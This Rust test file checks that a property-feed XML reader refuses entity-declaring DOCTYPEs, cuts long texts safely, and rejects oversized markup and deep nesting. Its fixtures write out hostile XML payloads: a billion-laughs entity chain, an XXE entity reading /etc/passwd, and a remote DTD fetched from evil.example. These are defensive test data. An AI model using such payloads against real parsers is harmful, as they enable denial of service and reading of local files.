//! What the Kyero reader refuses or cuts to stay safe and bounded: DOCTYPEs declaring entities
//! (XML bombs, XXE), references to undefined entities, text and CDATA nodes longer than the
//! limit (cut as they stream, through any buffer size, without breaking the document), and
//! markup or nesting past the reader's bounds.

use propimport_importer::formats::Stage;
use propimport_importer::{FeedError, FeedItem};

use crate::{kyero, kyero_limited};

/// A property with every required field; `desc` is written as it is inside `<desc><en>`.
fn property(id: &str, desc: &str) -> String {
    format!(
        "<property><id>{id}</id><date>2024-05-01</date><ref>R</ref><price>1</price>\
         <price_freq>sale</price_freq><type>flat</type><town>T</town><province>P</province>\
         <desc><en>{desc}</en></desc><images><image id=\"1\"><url>https://img.example/1.jpg</url></image></images>\
         </property>"
    )
}

fn feed(properties: &[String]) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<root>{}</root>\n",
        properties.concat()
    )
}

fn outcome(item: &FeedItem) -> String {
    match item {
        FeedItem::Listing(l, _) => format!("ok {}", l.external_id),
        FeedItem::Failed(f) => format!("failed {:?} {:?}: {}", f.external_id, f.stage, f.message),
        FeedItem::Gone(id) => format!("gone {id}"),
        FeedItem::Known(k) => format!("known {}", k.external_id),
    }
}

#[tokio::test]
async fn doctypes_declaring_entities_are_refused() {
    let body = feed(&[property("A", "&lol9;")]);
    let body = body.trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    let laughs: String = (1..=9)
        .map(|i| {
            format!(
                "<!ENTITY lol{i} \"&lol{0};&lol{0};&lol{0};&lol{0};&lol{0};\">",
                i - 1
            )
        })
        .collect();
    let doctypes = [
        format!("<!DOCTYPE root [<!ENTITY lol0 \"lol\">{laughs}]>"),
        "<!DOCTYPE root [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE root [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]>"
            .to_owned(),
        "<!doctype root [ <!entity unused 'x'> ]>".to_owned(),
    ];
    for doctype in doctypes {
        let doc = format!("<?xml version=\"1.0\"?>\n{doctype}\n{body}");
        for capacity in [1, 7, 4096] {
            let read = kyero(doc.as_bytes(), capacity).await;
            assert!(read.items.is_empty(), "{doctype}");
            match &read.error {
                Some(FeedError::Refused { at, message }) => {
                    assert_eq!(at.offset, 22, "the DOCTYPE's place: {doctype}");
                    assert_eq!(
                        message,
                        "the document declares entities in its DOCTYPE, which are not accepted (they can expand to gigabytes or read local files and URLs)"
                    );
                }
                other => panic!("{doctype}: expected a refused feed, got {other:?}"),
            }
            let text = read.error.unwrap().to_string();
            assert!(
                text.starts_with("the feed is refused at byte 22, after 0 records: "),
                "{text}"
            );
        }
    }
}

#[tokio::test]
async fn doctypes_without_entity_declarations_are_accepted() {
    let body = feed(&[property("A", "Sea views")]);
    let body = body.trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    for doctype in [
        "<!DOCTYPE root SYSTEM \"http://www.kyero.com/kyero.dtd\">",
        "<!DOCTYPE root>",
        "<!DOCTYPE root [ <!ELEMENT root ANY> <!ATTLIST image id CDATA #IMPLIED> <!-- > --> ]>",
    ] {
        let doc = format!("{doctype}\n{body}");
        let read = kyero(doc.as_bytes(), 5).await;
        assert_eq!(
            read.ok().iter().map(outcome).collect::<Vec<_>>(),
            ["ok A"],
            "{doctype}"
        );
    }
}

#[tokio::test]
async fn undefined_references_fail_their_property_alone() {
    let doc = feed(&[
        property(
            "A",
            "Sea &amp; sun for 1&#x20AC; &euro;, tax &amp; fees &lt;5%",
        ),
        property("B", "Views &xxe; and more"),
        property("C", "Nul &#0; here"),
        property("D", "R&D & more"),
    ]);
    let read = kyero(doc.as_bytes(), 3).await;
    let outcomes: Vec<String> = read.ok().iter().map(outcome).collect();
    assert_eq!(
        outcomes,
        [
            "ok A".to_owned(),
            "failed Some(\"B\") Parse: property 2: desc/en: &xxe; is not a known entity or a valid character reference (a feed cannot declare entities)".into(),
            "failed Some(\"C\") Parse: property 3: desc/en: &#0; is not a known entity or a valid character reference (a feed cannot declare entities)".into(),
            "ok D".into(),
        ]
    );
    let read = kyero(doc.as_bytes(), 4096).await;
    let listings = read.listings();
    let text = |i: usize| {
        listings[i]
            .texts
            .values()
            .next()
            .unwrap()
            .description
            .clone()
            .unwrap()
    };
    assert_eq!(text(0), "Sea & sun for 1€ €, tax & fees <5%");
    assert_eq!(text(1), "R&D & more", "a lone & is text");
}

/// Texts and CDATA sections around the limit, with multi-byte characters and references where
/// the cut falls: read with a small limit they give what a large limit gives, except that the
/// ones longer than the limit fail alone, whatever the buffer size.
#[tokio::test]
async fn long_texts_are_cut_without_breaking_the_document() {
    const LIMIT: usize = 32;
    let mut texts: Vec<String> = Vec::new();
    for length in LIMIT - 6..=LIMIT + 6 {
        for piece in ["é", "€", "𝄞", "&amp;", "&#233;", "& "] {
            for at in 0..=length.saturating_sub(piece.len()) {
                let mut text = "x".repeat(at) + piece;
                text.push_str(&"y".repeat(length - text.len().min(length)));
                if text.len() == length {
                    texts.push(text);
                }
            }
        }
    }
    texts.sort();
    texts.dedup();
    let mut properties = Vec::new();
    let mut expected = Vec::new();
    for text in &texts {
        for written in [
            text.clone(),
            format!("<![CDATA[{}]]>", text.replace('&', "+")),
        ] {
            let number = properties.len() + 1;
            let id = format!("T{number}");
            let content_len = if written.starts_with("<![") {
                text.len()
            } else {
                written.len()
            };
            expected.push(if content_len <= LIMIT {
                format!("ok {id}")
            } else {
                format!("failed Some(\"{id}\") Parse: property {number}: desc/en: a text longer than the limit of 32 bytes was skipped")
            });
            properties.push(property(&id, &written));
        }
    }
    let doc = feed(&properties);
    let whole: Vec<String> = kyero(doc.as_bytes(), 4096)
        .await
        .ok()
        .iter()
        .map(outcome)
        .collect();
    assert!(
        whole.iter().all(|o| o.starts_with("ok")),
        "all fit the default limit"
    );
    for capacity in [1, 2, 3, 5, 64, 4096] {
        let read = kyero_limited(doc.as_bytes(), capacity, LIMIT).await;
        let outcomes: Vec<String> = read.ok().iter().map(outcome).collect();
        assert_eq!(outcomes.len(), expected.len());
        for (got, want) in outcomes.iter().zip(&expected) {
            assert_eq!(got, want, "capacity {capacity}");
        }
    }
    // The texts that fit are read exactly as without the limit.
    let small = kyero_limited(doc.as_bytes(), 7, LIMIT).await;
    let large = kyero(doc.as_bytes(), 7).await;
    for (a, b) in small.items.iter().zip(&large.items) {
        if let FeedItem::Listing(..) = a {
            assert_eq!(a, b);
        }
    }
}

#[tokio::test]
async fn markup_longer_than_a_mib_fails_the_feed_where_it_starts() {
    let big = "z".repeat((1 << 20) + 10);
    let cases = [
        (format!("<!-- {big} -->"), "a comment longer than 1 MiB"),
        (format!("<tag a=\"{big}\"/>"), "a tag longer than 1 MiB"),
        (
            format!("<?pi {big}?>"),
            "a processing instruction longer than 1 MiB",
        ),
    ];
    for (markup, expected) in cases {
        let doc = format!("<root><property><id>A</id>{markup}</property></root>");
        let read = kyero(doc.as_bytes(), 64 * 1024).await;
        match read.error {
            Some(FeedError::Refused { at, message }) => {
                assert_eq!(at.offset, 26, "{expected}");
                assert_eq!(
                    message,
                    format!("{expected} was found, which is not accepted")
                );
            }
            other => panic!("{expected}: {other:?}"),
        }
    }
    let doc = format!("<!DOCTYPE root [ <!-- {big} --> ]><root/>");
    let error = kyero(doc.as_bytes(), 4096).await.error.unwrap().to_string();
    assert!(error.contains("a DOCTYPE longer than 1 MiB"), "{error}");
}

#[tokio::test]
async fn elements_nested_too_deep_fail_the_feed() {
    let doc = format!("<root><property>{}", "<a>".repeat(300));
    let error = kyero(doc.as_bytes(), 4096).await.error.unwrap().to_string();
    assert!(
        error.contains("elements are nested more than 256 deep"),
        "{error}"
    );
}

#[tokio::test]
async fn cut_text_outside_the_root_and_positions_after_a_cut() {
    let junk = format!("<root/>{}", "x".repeat(100));
    let error = kyero_limited(junk.as_bytes(), 9, 16)
        .await
        .error
        .unwrap()
        .to_string();
    assert!(error.contains("text outside the root element"), "{error}");
    let blank = format!("<root/>{}", " \n".repeat(100));
    assert!(kyero_limited(blank.as_bytes(), 9, 16).await.ok().is_empty());

    // A document that ends inside a cut text or CDATA section is still cut short.
    for open in ["<en>", "<en><![CDATA["] {
        let doc = format!(
            "<root><property><id>A</id><desc>{open}{}",
            "long ".repeat(100)
        );
        let read = kyero_limited(doc.as_bytes(), 9, 16).await;
        assert!(read.items.is_empty());
        assert!(
            matches!(
                read.error,
                Some(FeedError::Truncated { .. } | FeedError::Malformed { .. })
            ),
            "{open}: {:?}",
            read.error
        );
    }

    // Byte offsets count the skipped bytes: an error after a cut is where it is in the feed.
    let doc = feed(&[property("A", &"long ".repeat(100))]).replace("</root>", "</rot>");
    let cut = kyero_limited(doc.as_bytes(), 5, 16).await;
    let whole = kyero(doc.as_bytes(), 5).await;
    assert_eq!(cut.items.len(), 1);
    assert_eq!(cut.failures()[0].stage, Stage::Parse);
    let (cut, whole) = (cut.error.unwrap(), whole.error.unwrap());
    assert_eq!(cut.position(), whole.position(), "{cut} / {whole}");
}
